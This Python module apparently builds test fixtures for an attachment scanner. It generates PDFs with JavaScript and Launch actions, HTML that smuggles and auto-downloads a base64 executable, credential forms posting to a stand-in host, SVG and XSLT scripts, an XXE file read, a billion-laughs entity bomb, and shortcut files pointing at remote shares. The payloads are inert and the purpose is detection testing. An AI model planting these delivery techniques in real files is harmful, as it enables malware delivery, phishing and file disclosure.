"""Group E: documents and pages that start, fetch, make or ask for something when they are opened."""

from __future__ import annotations

import base64
import struct
from collections.abc import Iterator

from corpora.attachments import pdfs
from corpora.attachments.mime import HARMLESS, Case, case
from corpora.attachments.programs import BATCH, lnk, pe

D, S = "dangerous", "suspicious"
Row = tuple[str, bytes, str, str, tuple[str, ...]]
"""Case, content, name of the file, verdict, codes."""
KINDS = {
    "pdf": "application/pdf",
    "html": "text/html",
    "htm": "text/html",
    "xhtml": "application/xhtml+xml",
    "shtml": "text/html",
    "svg": "image/svg+xml",
    "xml": "application/xml",
    "ics": "text/calendar",
}


def cases() -> Iterator[Case]:
    """Give them all."""
    for make in (documents, pages, drawings, calendars, shortcuts):
        for name, data, filename, verdict, findings in make():
            kind = KINDS.get(filename.rsplit(".", 1)[-1], "application/octet-stream")
            opaque = name == "E-pdf-encrypted"
            yield case(name, data, filename, verdict, *findings, media_type=kind, opaque=opaque)


def documents() -> Iterator[Row]:
    """PDF: actions, and files inside. ISO 32000-1, sections 12.6 and 7.11."""
    js, launch, action = ("PDF_JAVASCRIPT 2",), ("PDF_LAUNCH 2",), ("PDF_ACTION 2",)
    code = b"<< /S /JavaScript /JS (app.alert\\(1\\);) >>"
    start = b"<< /S /Launch /F (look-alike.exe) >>"

    def opened(what: bytes, key: bytes = b"/OpenAction") -> bytes:
        return pdfs.pdf(catalog=b"%s %s" % (key, what))

    script = pdfs.stream(b"app.alert(1); // MAILKIT-BENIGN-LOOKALIKE-PAYLOAD", packed=True)
    referred = pdfs.pdf(catalog=b"/OpenAction 6 0 R", objects=(b"<< /S /JavaScript /JS 7 0 R >>", script))
    inside = b"6 0 << /S /JavaScript /JS (app.alert\\(1\\);) >>"
    packed = pdfs.stream(inside, b"/Type /ObjStm /N 1 /First 4", packed=True)
    hexed = base64.b16encode(pdfs.zlib_stream(inside)) + b">"
    twice = pdfs.stream(hexed, b"/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]")
    names = b"/Names << /JavaScript << /Names [(start) 6 0 R] >> >>"
    widget = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K %s >> >>" % code
    xfa = pdfs.stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><event activity="initialize"><script contentType="application/x-javascript">var a;</script></event></xdp:xdp>',
        packed=True,
    )
    rows: list[tuple[str, bytes, str, tuple[str, ...]]] = [
        ("E-pdf-js-open", opened(code), S, js),
        ("E-pdf-js-idle", opened(b"<< /S /JavaScript /JS (var nothing = 0;) >>"), S, js),
        ("E-pdf-js-hex-names", opened(b"<< /#53 /J#61va#53cript /J#53 (app.alert\\(1\\);) >>"), S, js),
        ("E-pdf-js-names-tree", pdfs.pdf(catalog=names, objects=(code,)), S, js),
        ("E-pdf-js-page-action", pdfs.pdf(page=b"/AA << /O %s >>" % code), S, js),
        ("E-pdf-js-in-stream", referred, S, js),
        ("E-pdf-js-object-stream", pdfs.pdf(catalog=b"/OpenAction 6 0 R", objects=(b"null", packed)), S, js),
        ("E-pdf-js-two-filters", pdfs.pdf(catalog=b"/OpenAction 6 0 R", objects=(b"null", twice)), S, js),
        ("E-pdf-js-field", pdfs.pdf(catalog=b"/AcroForm << /Fields [6 0 R] >>", page=b"/Annots [6 0 R]", objects=(widget,)), S, js),
        ("E-pdf-js-xfa", pdfs.pdf(catalog=b"/AcroForm << /XFA 6 0 R /Fields [] >>", objects=(xfa,)), S, ()),
        ("E-pdf-js-behind-junk", b"\r\n" * 200 + opened(code), S, js),
        ("E-pdf-launch", opened(start), D, launch),
        ("E-pdf-launch-hex", opened(b"<< /S /L#61unch /Win << /F (look-alike.exe) /P (nothing) >> >>"), D, launch),
        ("E-pdf-launch-link", pdfs.pdf(page=b"/Annots [6 0 R]", objects=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %s >>" % start,)), D, launch),
        ("E-pdf-remote", opened(b"<< /S /GoToR /F (\\\\\\\\files.sender.example\\\\share\\\\a.pdf) /D [0 /Fit] >>"), S, action),
        ("E-pdf-submit", opened(b"<< /S /SubmitForm /F (https://files.sender.example/in) >>"), S, action),
        ("E-pdf-import", opened(b"<< /S /ImportData /F (\\\\\\\\files.sender.example\\\\a.fdf) >>"), S, action),
        ("E-pdf-open-link", opened(b"<< /S /URI /URI (https://files.sender.example/setup.exe) >>"), S, action),
        ("E-pdf-holds-program", pdfs.with_file("setup.exe", pe(), "application/octet-stream"), D, ("PDF_EMBEDDED 2!setup.exe",)),
        ("E-pdf-holds-script", pdfs.with_file("start.bat", BATCH, "text/plain"), D, ("PDF_EMBEDDED 2!start.bat",)),
        ("E-pdf-holds-renamed-program", pdfs.with_file("data.xml", pe()), D, ("MAGIC_EXECUTABLE 2!data.xml",)),
        ("E-pdf-in-pdf", pdfs.with_file("inner.pdf", opened(start), "application/pdf"), D, ("PDF_LAUNCH 2!inner.pdf",)),
        ("E-pdf-encrypted", pdfs.pdf(trailer=b"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O (%s) /U (%s) >> /ID [(a) (a)]" % (b"o" * 32, b"u" * 32)), S, ("PDF_ENCRYPTED 2",)),
    ]  # fmt: skip
    for name, data, verdict, findings in rows:
        yield name, data, "invoice.pdf", verdict, findings
    yield "E-pdf-as-octets", opened(start), "invoice.dat", D, launch


def pages() -> Iterator[Row]:
    """Pages that make a file, go elsewhere, or ask for a password. HTML, living standard."""
    held = base64.b64encode(pe()).decode()
    words = "<h1>Document</h1><p>Your document opens by itself in a moment.</p>"
    save = (
        "var u=URL.createObjectURL(new Blob([b],{type:'application/octet-stream'}));var a=document.createElement('a');"
        "a.href=u;a.download='setup.exe';a.click();"
    )

    def page(inside: str, head: str = "") -> bytes:
        return f"<!DOCTYPE html>\n<html><head><title>Document</title>{head}</head><body>{words}{inside}</body></html>\n".encode()

    smuggle, script = ("HTML_SMUGGLING 2",), ("HTML_SCRIPT 2",)
    blob = f"<script>var s=atob('{held}');var b=new Uint8Array(s.length);for(var i=0;i<s.length;i++)b[i]=s.charCodeAt(i);{save}</script>"
    rows: list[tuple[str, bytes, str, str, tuple[str, ...]]] = [
        ("E-html-blob", page(blob), "invoice.html", D, smuggle),
        ("E-html-blob-upper", page(blob.replace("script>", "SCRIPT >")), "invoice.htm", D, smuggle),
        ("E-html-blob-utf16", b"\xff\xfe" + page(blob).decode().encode("utf-16-le"), "invoice.html", D, smuggle),
        ("E-html-mssave", page(f"<script>var b=atob('{held}');navigator.msSaveOrOpenBlob(new Blob([b]),'setup.exe');</script>"), "invoice.html", D, smuggle),
        ("E-html-data-link", page(f'<a id="d" download="setup.exe" href="data:application/octet-stream;base64,{held}">open</a><script>d.click()</script>'), "invoice.html", D, smuggle),
        ("E-html-data-link-alone", page(f'<a download="setup.exe" href="data:application/x-msdownload;base64,{held}">open</a>'), "invoice.html", S, ()),
        ("E-html-write-unescape", page("<script>document.write(unescape('%3Cp%3Enothing%3C%2Fp%3E'));</script>"), "invoice.html", S, script),
        ("E-html-eval", page("<script>eval(String.fromCharCode(118,97,114,32,97,59));</script>"), "invoice.html", S, script),
        ("E-html-go", page("<script>window.location.href='https://login.sender.example/';</script>"), "invoice.html", S, ()),
        ("E-html-refresh", page("", '<meta http-equiv="refresh" content="0; url=https://login.sender.example/">'), "invoice.html", S, ("HTML_REDIRECT 2",)),
        ("E-html-password", page('<form action="https://login.sender.example/in" method="post"><input name="user"><input type="password" name="p"></form>'), "login.html", S, ("HTML_FORM 2",)),
        ("E-html-password-script", page("<form><input type=password></form><script>fetch('https://login.sender.example/in',{method:'POST'});</script>"), "login.html", S, ("HTML_FORM 2",)),
        ("E-html-only-script", b"<script src='https://login.sender.example/a.js'></script>\n", "invoice.html", S, script),
        ("E-html-onload", b"<html><body onload=\"location='https://login.sender.example/'\"></body></html>\n", "invoice.html", S, ()),
        ("E-html-object", page('<object classid="clsid:F935DC22-1CF0-11D0-ADB9-00C04FD58A0B" id="o"></object>'), "page.html", D, ("HTML_OBJECT 2",)),
        ("E-html-vbscript", page('<script language="VBScript">Dim nothing</script>'), "page.html", S, script),
        ("E-html-hta-as-html", page('<hta:application id="a" windowstate="minimize">'), "page.html", D, ("HTML_OBJECT 2",)),
        ("E-html-iframe-javascript", page("<iframe src=\"javascript:location='https://login.sender.example/'\"></iframe>"), "page.html", S, script),
        ("E-xhtml-blob", b'<?xml version="1.0"?>\n' + page(blob), "invoice.xhtml", D, smuggle),
        ("E-shtml-password", page('<form action="https://login.sender.example/in"><input type=password></form>'), "login.shtml", S, ("HTML_FORM 2",)),
        ("E-html-without-name-of-it", page(blob), "invoice.dat", D, smuggle),
    ]  # fmt: skip
    yield from rows
    mht = (
        b'From: <Saved by a browser>\r\nSubject: page\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="=_s"; type="text/html"\r\n\r\n'
        b"--=_s\r\nContent-Type: text/html\r\nContent-Location: file:///C:/page.html\r\n\r\n"
        + page(blob).replace(b"\n", b"\r\n")
        + b"\r\n--=_s--\r\n"
    )
    yield "E-mht-blob", mht, "page.mht", D, ()


def drawings() -> Iterator[Row]:
    """SVG and other XML. SVG 2 section 15, XSLT 1.0 section 14, XML 1.0 section 4."""
    ns = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    script = ("SVG_SCRIPT 2",)
    for name, inside in {
        "E-svg-script": "<script>var nothing = 0;</script>",
        "E-svg-script-cdata": '<script type="text/ecmascript"><![CDATA[ var a; ]]></script>',
        "E-svg-onload": '<g onload="var nothing = 0"/>',
        "E-svg-link": '<a xlink:href="javascript:void(0)"><text>open</text></a>',
        "E-svg-link-entity": '<a xlink:href="java&#115;cript:void(0)"><text>open</text></a>',
        "E-svg-foreign-frame": '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://login.sender.example/"/></foreignObject>',
        "E-svg-set": '<a><set attributeName="xlink:href" to="javascript:void(0)"/><text>open</text></a>',
        "E-svg-prefix": '<s:script xmlns:s="http://www.w3.org/2000/svg">var a;</s:script>',
    }.items():
        data = f'<?xml version="1.0"?>\n<svg {ns} width="9" height="9"><circle r="4"/>{inside}</svg>\n'
        yield name, data.encode(), "logo.svg", S, script
    sheet = (
        '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="#s"?>\n<xsl:stylesheet id="s" version="1.0" '
        'xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:u="urn:u">'
        '<msxsl:script language="JScript" implements-prefix="u">var nothing = 0;</msxsl:script></xsl:stylesheet>\n'
    )
    yield "E-xml-style-sheet", sheet.encode(), "order.xml", S, ("XML_SCRIPT 2",)
    yield "E-xsl-style-sheet", sheet.encode(), "order.xsl", S, ("XML_SCRIPT 2",)
    grow = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 10}">' for at in range(1, 10))
    laughs = f'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY e0 "ha">{grow}]>\n<a>&e9;</a>\n'
    yield "E-xml-entities-grow", laughs.encode(), "order.xml", S, ("XML_ENTITY 2",)
    loads = '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/hostname">]>\n<a>&f;</a>\n'
    yield "E-xml-entity-loads", loads.encode(), "order.xml", S, ("XML_ENTITY 2",)


def calendars() -> Iterator[Row]:
    """Appointments that hold or name a program. RFC 5545, sections 3.8.1.1 and 3.8.6.1."""

    def event(line: str) -> bytes:
        rows = [
            "BEGIN:VCALENDAR",
            "VERSION:2.0",
            "PRODID:-//Example//EN",
            "METHOD:REQUEST",
            "BEGIN:VEVENT",
            "UID:17@sender.example",
        ]
        rows += [
            "DTSTAMP:20240604T070000Z",
            "DTSTART:20240611T120000Z",
            "SUMMARY:Review",
            line,
            "END:VEVENT",
            "END:VCALENDAR",
        ]
        return ("\r\n".join(rows) + "\r\n").encode()

    held = base64.b64encode(pe()).decode()
    folded = "\r\n ".join(held[at : at + 60] for at in range(0, len(held), 60))
    found = ("ICS_ATTACH 2",)
    yield (
        "E-ics-holds-program",
        event(f"ATTACH;FMTTYPE=application/octet-stream;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=setup.exe:{folded}"),
        "invite.ics",
        S,
        found,
    )
    yield "E-ics-names-program", event("ATTACH:https://files.sender.example/setup.exe"), "invite.ics", S, found
    yield "E-ics-names-share", event("ATTACH:file://files.sender.example/share/setup.exe"), "invite.ics", S, found
    alarm = "BEGIN:VALARM\r\nACTION:PROCEDURE\r\nTRIGGER:-PT5M\r\nATTACH:file:///C:/look-alike.exe\r\nEND:VALARM"
    yield "E-ics-alarm-procedure", event(alarm), "invite.ics", S, found


def shortcuts() -> Iterator[Row]:
    """Files that lead to a program."""
    target = "[InternetShortcut]\r\nURL={}\r\nIconIndex=0\r\n"
    leads = ("URL_FILE 2",)
    yield (
        "E-url-share",
        target.format("file://files.sender.example/share/setup.exe").encode(),
        "invoice.url",
        D,
        ("EXT_SHORTCUT 2", *leads),
    )
    yield "E-url-share-as-txt", target.format("file:////files.sender.example/a.exe").encode(), "invoice.txt", D, leads
    yield (
        "E-url-program",
        target.format("https://files.sender.example/setup.exe").encode(),
        "invoice.url",
        D,
        ("EXT_SHORTCUT 2",),
    )
    yield (
        "E-url-search",
        target.format("search-ms:query=invoice&crumb=location:%5C%5Cfiles.sender.example%5Cshare").encode(),
        "invoice.url",
        D,
        ("EXT_SHORTCUT 2",),
    )
    yield "E-website", target.format("file://files.sender.example/a.js").encode(), "invoice.website", D, ()
    yield "E-lnk-as-pdf", lnk(), "invoice.pdf", D, ("MAGIC_SHORTCUT 2", "MAGIC_MISMATCH 2")
    yield "E-lnk-no-ending", lnk(), "invoice", D, ("MAGIC_SHORTCUT 2",)
    yield (
        "E-library-ms",
        b'<?xml version="1.0"?>\n<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\files.sender.example\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>\n',
        "docs.library-ms",
        D,
        (),
    )
    yield (
        "E-settingcontent",
        b'<?xml version="1.0"?>\n<PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><ApplicationInformation><DeepLink>look-alike.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>\n',
        "a.settingcontent-ms",
        D,
        (),
    )
    words = HARMLESS.decode().strip()
    yield "E-inf", f"[Version]\r\nSignature=$CHICAGO$\r\n[DefaultInstall]\r\n; {words}\r\n".encode(), "setup.inf", D, ()
    yield "E-scf", b"[Shell]\r\nCommand=2\r\nIconFile=\\\\files.sender.example\\share\\a.ico\r\n", "folder.scf", D, ()
    yield (
        "E-sct",
        b'<?xml version="1.0"?>\n<scriptlet><registration progid="a"><script language="JScript">var a;</script></registration></scriptlet>\n',
        "a.sct",
        D,
        (),
    )
    size = struct.pack("<I", 0x4C)
    yield "E-lnk-cut", size + lnk()[4:60], "invoice.lnk", D, ("EXT_SHORTCUT 2",)
